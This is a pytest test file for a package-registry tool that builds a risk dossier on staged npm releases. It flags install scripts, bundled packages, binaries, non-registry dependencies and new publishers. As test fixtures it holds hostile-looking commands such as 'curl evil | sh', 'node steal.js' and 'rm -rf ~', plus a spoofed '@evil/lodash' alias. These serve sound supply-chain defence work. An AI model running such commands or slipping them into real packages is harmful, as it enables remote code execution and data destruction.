"""Tests for registry.dossier: what a maintainer sees before approving a staged release."""

import io
import json
import tarfile

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from registry.dossier import Release, dependency_source, dossier_build
from registry.exceptions import InvalidTarball
from registry.tarballs import TarballLimits
from tests.packages import npm_tarball

LIMITS = TarballLimits(
    max_compressed_bytes=8 * 1024 * 1024, max_unpacked_bytes=32 * 1024 * 1024, max_members=500
)
FUZZ = settings(
    max_examples=60,
    deadline=None,
    database=None,  # leave no .hypothesis folder in the shared tree
    suppress_health_check=[HealthCheck.too_slow],
)


def release(files=None, *, publisher="user:alice", modes=None, **manifest) -> Release:
    """A release of left-pad; ``manifest`` keys (scripts, dependencies, bin, …) go into
    both the version manifest and the tarball's package.json."""
    manifest = {"name": "left-pad", "version": "1.0.0", **manifest}
    tree = {"package.json": json.dumps(manifest), **(files or {})}
    tarball = tarball_with_modes(tree, modes) if modes else npm_tarball(tree)
    return Release(manifest=manifest, tarball=tarball, publisher=publisher)


def tarball_with_modes(files: dict[str, str | bytes], modes: dict[str, int]) -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for path, content in files.items():
            data = content.encode() if isinstance(content, str) else content
            info = tarfile.TarInfo(f"package/{path}")
            info.size, info.mode = len(data), modes.get(path, 0o644)
            tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def build(staged: Release, previous: Release | None = None, known=("user:alice",)) -> dict:
    return dossier_build(
        staged=staged, previous=previous, known_publishers=set(known), limits=LIMITS
    )


def risks(dossier: dict, code: str) -> list[dict]:
    return [risk for risk in dossier["risks"] if risk["code"] == code]


def only_risk(dossier: dict, code: str) -> dict:
    [risk] = risks(dossier, code)
    return risk


def changed(dossier: dict, path: str) -> dict:
    [entry] = [entry for entry in dossier["diff"]["changed"] if entry["path"] == path]
    return entry


# Files and diffs


def test_first_release_lists_everything_as_added():
    staged = release({"lib/b.js": "b\n", "index.js": "a\n"})

    dossier = build(staged, known=())

    assert [f["path"] for f in dossier["files"]] == ["index.js", "lib/b.js", "package.json"]
    assert dossier["files"][0] == {"path": "index.js", "size": 2, "executable": False}
    assert dossier["file_count"] == 3
    assert dossier["size"] == len(staged.tarball)
    assert dossier["compared_with"] is None
    assert dossier["diff"] == {
        "added": ["index.js", "lib/b.js", "package.json"],
        "removed": [],
        "changed": [],
    }
    assert [risk["code"] for risk in dossier["risks"]] == ["first-release"]
    assert dossier["summary"] == {
        "files_added": 3,
        "files_removed": 0,
        "files_changed": 0,
        "high": 0,
        "medium": 0,
        "low": 1,
        "headline": "1 low-risk signal: first release",
    }


def test_unchanged_files_are_omitted_and_added_and_removed_files_listed():
    previous = release({"same.js": "x\n", "old.js": "o\n"})
    staged = release({"same.js": "x\n", "new.js": "n\n"}, version="1.0.1")

    dossier = build(staged, previous)

    assert dossier["compared_with"] == "1.0.0"
    assert dossier["diff"]["added"] == ["new.js"]
    assert dossier["diff"]["removed"] == ["old.js"]
    assert [entry["path"] for entry in dossier["diff"]["changed"]] == ["package.json"]
    assert dossier["summary"]["files_changed"] == 1


def test_changed_file_gets_a_unified_diff():
    previous = release({"lib/index.js": "a\nb\nc\nd\ne\nf\ng\nh\n"})
    staged = release({"lib/index.js": "a\nb\nc\nd\ne\nf\nG\nh\n"})

    entry = changed(build(staged, previous), "lib/index.js")

    assert entry == {
        "path": "lib/index.js",
        "size_before": 16,
        "size_after": 16,
        "binary": False,
        "patch": (
            "--- a/lib/index.js\n+++ b/lib/index.js\n@@ -4,5 +4,5 @@\n d\n e\n f\n-g\n+G\n h\n"
        ),
        "truncated": False,
    }


def test_patch_marks_a_missing_final_newline_and_keeps_carriage_returns():
    previous = release({"a.txt": "one\r\ntwo"})
    staged = release({"a.txt": "one\r\ntwo\n"})

    patch = changed(build(staged, previous), "a.txt")["patch"]

    assert patch.endswith("-two\n\\ No newline at end of file\n+two\n")
    assert "@@ -1,2 +1,2 @@\n one\r\n" in patch


def test_patch_is_truncated_past_the_cap():
    previous = release({"data.txt": "".join(f"old {i}\n" for i in range(3000))})
    staged = release({"data.txt": "".join(f"new {i}\n" for i in range(3000))})

    entry = changed(build(staged, previous), "data.txt")

    assert entry["truncated"] is True
    assert entry["patch"].count("\n") == 2000
    assert entry["patch"].startswith("--- a/data.txt\n+++ b/data.txt\n")


def test_file_too_large_to_diff_is_listed_without_a_patch():
    big = "x" * 80 + "\n"
    previous = release({"big.txt": big * 4000})  # 324 KiB, over the 256 KiB per-file cap
    staged = release({"big.txt": big * 4001})

    entry = changed(build(staged, previous), "big.txt")

    assert entry["patch"] is None
    assert entry["truncated"] is True
    assert entry["binary"] is False


def test_binary_file_is_flagged_and_not_diffed():
    previous = release({"image.bin": b"\x00\x01old"})
    staged = release(
        {"image.bin": b"\x00\x01new", "addon.node": b"\x7fELF\x00", "latin1.txt": b"caf\xe9"}
    )

    dossier = build(staged, previous)

    assert changed(dossier, "image.bin")["binary"] is True
    assert changed(dossier, "image.bin")["patch"] is None
    assert changed(dossier, "image.bin")["truncated"] is False
    risk = only_risk(dossier, "binary-added")
    assert risk["severity"] == "medium"
    assert risk["detail"] == {"paths": ["addon.node", "latin1.txt"]}
    assert risk["message"] == "Adds 2 binary or executable files: addon.node, latin1.txt."


def test_executable_outside_bin_is_flagged_but_declared_commands_are_not():
    files = {"bin/run": "#!/bin/sh\n", "cli.js": "#!/usr/bin/env node\n", "hook.sh": "rm -rf ~\n"}
    modes = dict.fromkeys(files, 0o755)
    staged = release(files, modes=modes, bin={"pad": "./cli.js"})

    dossier = build(staged, release())

    assert only_risk(dossier, "binary-added")["detail"] == {"paths": ["hook.sh"]}
    assert next(f for f in dossier["files"] if f["path"] == "hook.sh")["executable"] is True


@pytest.mark.parametrize(
    "path, content",
    [
        ("dist/app.js", "var a=1;" * 200 + "\n"),  # one line over 1,000 characters
        ("dist/app.mjs", ("x" * 300 + "\n") * 3),  # average line over 200 characters
        ("dist/app.min.js", "var a = 1;\n"),  # named as minified
    ],
)
def test_minified_bundle_is_flagged(path, content):
    dossier = build(release({path: content}), release())

    risk = only_risk(dossier, "minified-added")
    assert risk["severity"] == "medium"
    assert risk["detail"] == {"paths": [path]}


def test_readable_code_and_long_non_script_lines_are_not_flagged_as_minified():
    files = {"index.js": "const a = 1;\n" * 100, "data.json": "[" + "1," * 2000 + "1]"}

    assert risks(build(release(files), release()), "minified-added") == []


# Install scripts


def test_added_postinstall_is_high_risk():
    dossier = build(release(scripts={"postinstall": "node steal.js", "test": "jest"}), release())

    risk = only_risk(dossier, "install-script-added")
    assert risk == {
        "code": "install-script-added",
        "severity": "high",
        "message": "Adds a postinstall script, which npm runs on install.",
        "detail": {"script": "postinstall", "command": "node steal.js"},
    }
    assert dossier["summary"]["headline"] == "1 high-risk signal: install script added"


def test_added_prepare_is_medium_risk():
    risk = only_risk(build(release(scripts={"prepare": "tsc"}), release()), "install-script-added")

    assert risk["severity"] == "medium"
    assert "from git" in risk["message"]


def test_changed_install_script_is_high_risk_and_unchanged_one_is_silent():
    previous = release(scripts={"preinstall": "node a.js", "install": "node b.js"})
    staged = release(scripts={"preinstall": "node a.js", "install": "curl evil | sh"})

    dossier = build(staged, previous)

    risk = only_risk(dossier, "install-script-changed")
    assert risk["severity"] == "high"
    assert risk["detail"] == {
        "script": "install",
        "command": "curl evil | sh",
        "previous": "node b.js",
    }
    assert risks(dossier, "install-script-added") == []


def test_first_release_with_an_install_script_is_high_risk():
    dossier = build(release(scripts={"install": "node x.js"}), known=())

    assert only_risk(dossier, "install-script-added")["severity"] == "high"


def test_binding_gyp_implies_an_install_script():
    dossier = build(release({"binding.gyp": "{}"}), release())

    assert only_risk(dossier, "install-script-added")["detail"] == {
        "script": "install",
        "command": "node-gyp rebuild",
    }


def test_binding_gyp_with_gypfile_false_runs_nothing():
    dossier = build(release({"binding.gyp": "{}"}, gypfile=False), release())

    assert risks(dossier, "install-script-added") == []


# Bundled packages: npm installs them from the tarball and runs their scripts


def bundled(name: str = "dep", **fields) -> str:
    return json.dumps({"name": name, "version": "1.0.0", **fields})


def test_install_script_of_a_bundled_package_is_high_risk():
    staged = release(
        {"node_modules/dep/package.json": bundled(scripts={"postinstall": "node steal.js"})},
        bundleDependencies=["dep"],
    )

    dossier = build(staged, release())

    risk = only_risk(dossier, "install-script-added")
    assert risk["severity"] == "high"
    assert risk["message"] == (
        "Adds a postinstall script in the bundled package node_modules/dep, which npm runs "
        "on install."
    )
    assert risk["detail"] == {
        "script": "postinstall",
        "command": "node steal.js",
        "package": "node_modules/dep",
    }
    assert dossier["summary"]["headline"].startswith("1 high-risk signal: install script added")


def test_bundled_packages_count_at_any_depth_and_binding_gyp_implies_node_gyp():
    deep = "node_modules/dep/node_modules/@scope/native"
    staged = release(
        {
            "node_modules/dep/package.json": bundled(),
            f"{deep}/package.json": bundled("@scope/native"),
            f"{deep}/binding.gyp": "{}",
        }
    )

    dossier = build(staged, release())

    assert only_risk(dossier, "install-script-added")["detail"] == {
        "script": "install",
        "command": "node-gyp rebuild",
        "package": deep,
    }
    assert only_risk(dossier, "bundled-packages")["detail"] == {"paths": ["node_modules/dep", deep]}


def test_bundled_script_is_compared_with_the_previous_release():
    def with_script(command):
        return release({"node_modules/dep/package.json": bundled(scripts={"install": command})})

    same = build(with_script("node build.js"), with_script("node build.js"))
    changed = build(with_script("curl evil | sh"), with_script("node build.js"))

    assert risks(same, "install-script-added") == risks(same, "install-script-changed") == []
    assert risks(same, "bundled-packages") == []  # already bundled before
    risk = only_risk(changed, "install-script-changed")
    assert (risk["severity"], risk["detail"]["previous"]) == ("high", "node build.js")
    assert "in the bundled package node_modules/dep" in risk["message"]


def test_commands_of_bundled_packages_are_flagged():
    staged = release({"node_modules/dep/package.json": bundled("dep", bin="cli.js")})

    risk = only_risk(build(staged, release()), "bin-added")

    assert risk["message"] == (
        "Adds the command dep in the bundled package node_modules/dep, which runs cli.js."
    )


def test_package_json_outside_node_modules_says_when_npm_would_run_it():
    staged = release({"fixtures/app/package.json": bundled(scripts={"preinstall": "x"})})

    dossier = build(staged, release())

    assert only_risk(dossier, "install-script-added")["message"] == (
        "Adds a preinstall script in fixtures/app/package.json, which npm runs if that folder "
        "is installed as a package."
    )
    assert risks(dossier, "bundled-packages") == []


def test_unreadable_bundled_package_json_is_high_risk():
    staged = release({"node_modules/dep/package.json": "[" * 2000})

    risk = only_risk(build(staged, release()), "bundled-manifest-unreadable")

    assert risk["severity"] == "high"
    assert risk["message"].startswith("node_modules/dep/package.json cannot be read (it nests")
    assert risk["message"].endswith("so what it runs on install could not be checked.")


# Dependencies


def test_new_dependency_is_medium_risk_and_new_dev_dependency_low():
    staged = release(
        dependencies={"lodash": "^4.17.21"},
        peerDependencies={"react": ">=18"},
        devDependencies={"jest": "^29"},
    )

    added = {
        risk["detail"]["name"]: risk for risk in risks(build(staged, release()), "dependency-added")
    }

    assert {name: risk["severity"] for name, risk in added.items()} == {
        "lodash": "medium",
        "react": "medium",
        "jest": "low",
    }
    assert added["lodash"]["message"] == "Adds lodash to dependencies (^4.17.21)."
    assert added["lodash"]["detail"] == {
        "kind": "dependencies",
        "name": "lodash",
        "spec": "^4.17.21",
    }


def test_changed_dependency_spec_is_low_risk():
    previous = release(dependencies={"lodash": "^4.17.20", "chalk": "^5"})
    staged = release(dependencies={"lodash": "^4.17.21", "chalk": "^5"})

    dossier = build(staged, previous)

    risk = only_risk(dossier, "dependency-changed")
    assert risk["severity"] == "low"
    assert risk["message"] == "Changes lodash in dependencies from ^4.17.20 to ^4.17.21."
    assert risks(dossier, "dependency-added") == []


@pytest.mark.parametrize(
    "spec, source",
    [
        ("^1.2.3", "registry"),
        ("1.2.3", "registry"),
        (">=1.0.0 <2 || 3.x", "registry"),
        ("latest", "registry"),
        ("1.x", "registry"),
        ("*", "registry"),
        ("", "registry"),
        ("npm:other@^1", "alias"),
        ("git+https://x/y.git", "git"),
        ("git+ssh://git@github.com/user/repo.git#v1", "git"),
        ("git://github.com/user/repo", "git"),
        ("github:user/repo", "git"),
        ("gitlab:user/repo", "git"),
        ("bitbucket:user/repo", "git"),
        ("user/repo", "git"),
        ("user/repo#abc", "git"),
        ("git@github.com:user/repo.git", "git"),
        ("https://github.com/user/repo.git#main", "git"),
        ("https://x/y.tgz", "url"),
        ("http://x/y.tgz", "url"),
        ("ftp://x/y.tgz", "url"),
        ("file:../z", "directory"),
        ("file:../z.tgz", "file"),
        ("file:vendor/z.tgz", "file"),
        ("./local", "directory"),
        ("../up", "directory"),
        ("../up/z.tgz", "file"),
        ("/abs/path", "directory"),
        ("~/home", "directory"),
        ("link:../x", "directory"),
        ("workspace:*", "directory"),
        ("C:\\deps\\x", "directory"),
    ],
)
def test_dependency_source_classifies_specs_as_npm_would_fetch_them(spec, source):
    assert dependency_source(spec) == source


def test_git_and_url_and_file_dependencies_are_flagged():
    staged = release(
        dependencies={"a": "github:evil/a", "b": "https://x/b.tgz", "ok": "^1"},
        optionalDependencies={"c": "file:../c.tgz"},
        devDependencies={"d": "git+https://x/d.git"},
    )

    flagged = {risk["detail"]["name"]: risk for risk in risks(build(staged), "dependency-source")}

    assert {
        name: (risk["severity"], risk["detail"]["source"]) for name, risk in flagged.items()
    } == {
        "a": ("high", "git"),
        "b": ("high", "url"),
        "c": ("high", "file"),
        "d": ("low", "git"),  # devDependencies are never installed by consumers
    }
    assert flagged["a"]["message"] == (
        "a in dependencies comes from a git repository (github:evil/a), not the registry."
    )


def test_non_registry_dependency_is_flagged_even_when_it_was_there_before():
    previous = release(dependencies={"a": "github:evil/a"})

    assert only_risk(build(previous, previous), "dependency-source")["severity"] == "high"


def test_npm_alias_to_another_package_is_medium_risk():
    staged = release(dependencies={"lodash": "npm:@evil/lodash@^4", "chalk": "npm:chalk@^5"})

    risk = only_risk(build(staged, release()), "dependency-source")

    assert risk["severity"] == "medium"
    assert risk["detail"]["target"] == "@evil/lodash"
    assert risk["message"] == "lodash in dependencies installs a different package, @evil/lodash."


# Commands, size, publisher, headline


def test_new_bin_entries_are_flagged_once_each():
    previous = release(bin={"pad": "cli.js"})
    staged = release(bin={"pad": "cli.js", "sudo": "evil.js"})

    risk = only_risk(build(staged, previous), "bin-added")

    assert risk["severity"] == "medium"
    assert risk["detail"] == {"name": "sudo", "path": "evil.js"}


def test_bin_given_as_a_string_is_named_after_the_package():
    staged = release(name="@acme/pad", bin="cli.js")

    assert only_risk(build(staged, release()), "bin-added")["detail"] == {
        "name": "pad",
        "path": "cli.js",
    }


def test_size_jump():
    previous = release({"a.txt": "a" * 10_000})
    staged = release({"a.txt": "a" * 10_000, "blob.txt": "b" * 300_000})

    risk = only_risk(build(staged, previous), "size-jump")

    assert risk["severity"] == "medium"
    assert risk["message"].startswith("Unpacked size grew from 9.8 KiB to ")


def test_small_growth_is_not_a_size_jump_and_a_big_drop_is_low_risk():
    small, doubled = release({"a.txt": "a" * 1_000}), release({"a.txt": "a" * 5_000})
    big, tiny = release({"a.txt": "a" * 500_000}), release({"a.txt": "a"})

    assert risks(build(doubled, small), "size-jump") == []
    assert only_risk(build(tiny, big), "size-jump")["severity"] == "low"
    assert build(tiny, big)["summary"]["headline"] == "1 low-risk signal: size drop"


@pytest.mark.parametrize(
    "has_previous, known, flagged",
    [
        (True, {"user:alice"}, False),
        (True, {"user:bob"}, True),
        (True, set(), True),
        (False, set(), False),  # a first release has no publishers yet
        (False, {"user:bob"}, True),  # e.g. a new package in an org with known publishers
    ],
)
def test_new_publisher(has_previous, known, flagged):
    staged = release(publisher="user:alice")

    dossier = build(staged, release() if has_previous else None, known=known)

    assert bool(risks(dossier, "new-publisher")) is flagged
    if flagged:
        assert only_risk(dossier, "new-publisher")["message"] == (
            "Staged by user:alice, who has not published this package before."
        )


def test_headline_counts_the_highest_severity_and_names_its_signals():
    staged = release(
        scripts={"postinstall": "node x.js"},
        dependencies={"a": "github:evil/a"},
        bin={"x": "x.js"},
    )

    dossier = build(staged, release())

    assert [risk["severity"] for risk in dossier["risks"]][:2] == ["high", "high"]
    assert dossier["summary"]["headline"] == (
        "2 high-risk signals: install script added, git dependency"
    )
    assert (dossier["summary"]["high"], dossier["summary"]["medium"]) == (2, 2)


def test_nothing_to_report_has_a_quiet_headline():
    assert build(release(), release())["summary"]["headline"] == "No risk signals"


def test_manifest_text_is_escaped_and_shortened_in_risks():
    staged = release(dependencies={"\x1b[2Jevil": "x" * 500})

    risk = only_risk(build(staged, release()), "dependency-added")

    assert "\x1b" not in risk["message"]
    assert risk["detail"]["name"] == "\\u001b[2Jevil"
    assert risk["detail"]["spec"] == "x" * 200 + "…"


def test_invalid_tarball_is_refused():
    with pytest.raises(InvalidTarball):
        build(Release(manifest={}, tarball=b"not a tarball", publisher="user:alice"))


def test_output_is_json_serialisable():
    previous = release({"a.js": "a\n", "b.bin": b"\x00"}, dependencies={"x": "^1"})
    staged = release(
        {"a.js": "A\n", "b.bin": b"\x00\x01", "c.js": "x" * 2000},
        scripts={"install": "node i.js"},
        dependencies={"x": "github:x/x", "y": "npm:z@1"},
        bin="a.js",
        publisher="token:ci-release (alice)",
    )

    dossier = build(staged, previous)

    assert json.loads(json.dumps(dossier, allow_nan=False)) == dossier


# Hypothesis

segments = st.text(alphabet="abcé.-_", min_size=1, max_size=4).filter(
    lambda s: s not in (".", "..")
)
paths = st.lists(segments, min_size=1, max_size=3).map("/".join)
trees = st.dictionaries(
    paths.filter(lambda p: p.lower() != "package.json"),
    st.one_of(st.binary(max_size=200), st.text(max_size=200).map(str.encode)),
    max_size=6,
)
junk = st.one_of(st.none(), st.integers(), st.text(max_size=20), st.lists(st.text(max_size=5)))
manifests = st.fixed_dictionaries(
    {},
    optional={
        "version": st.one_of(st.text(max_size=10), st.integers()),
        "dependencies": st.dictionaries(st.text(max_size=10), st.text(max_size=30)),
        "devDependencies": st.dictionaries(st.text(max_size=10), st.text(max_size=30)),
        "peerDependencies": st.one_of(junk, st.dictionaries(st.text(max_size=5), junk)),
        "scripts": st.one_of(junk, st.dictionaries(st.sampled_from(["install", "prepare"]), junk)),
        "bin": st.one_of(junk, st.dictionaries(st.text(max_size=5), st.text(max_size=10))),
        "gypfile": junk,
    },
)
releases = st.builds(
    lambda tree, manifest, publisher: Release(
        manifest=manifest,
        tarball=npm_tarball({"package.json": "{}", **tree}),
        publisher=publisher,
    ),
    trees,
    manifests,
    st.text(max_size=10),
)


@FUZZ
@given(staged=releases, previous=st.none() | releases, known=st.sets(st.text(max_size=10)))
def test_dossier_never_raises_and_is_always_json(staged, previous, known):
    dossier = build(staged, previous, known=known)

    assert json.loads(json.dumps(dossier, allow_nan=False)) == dossier
    assert dossier["file_count"] == len(dossier["files"])
    assert len(dossier["risks"]) == sum(
        dossier["summary"][level] for level in ("high", "medium", "low")
    )


def test_a_previous_release_refused_by_newer_checks_is_not_compared_with():
    # Published before package.json nesting was bounded: staging the next one still works.
    deep = json.dumps({"name": "left-pad", "version": "1.0.0", "config": [[[0]]]})
    deep = deep.replace("[[[0]]]", "[" * 70 + "0" + "]" * 70)
    previous = Release(
        manifest={"name": "left-pad", "version": "1.0.0"},
        tarball=npm_tarball({"package.json": deep}),
        publisher="user:alice",
    )

    dossier = build(release(version="1.1.0"), previous)

    risk = only_risk(dossier, "previous-unreadable")
    assert risk["severity"] == "low"
    assert risk["message"].startswith("Not compared with 1.0.0, which today's checks refuse:")
    assert risks(dossier, "first-release") == []
    assert dossier["compared_with"] is None
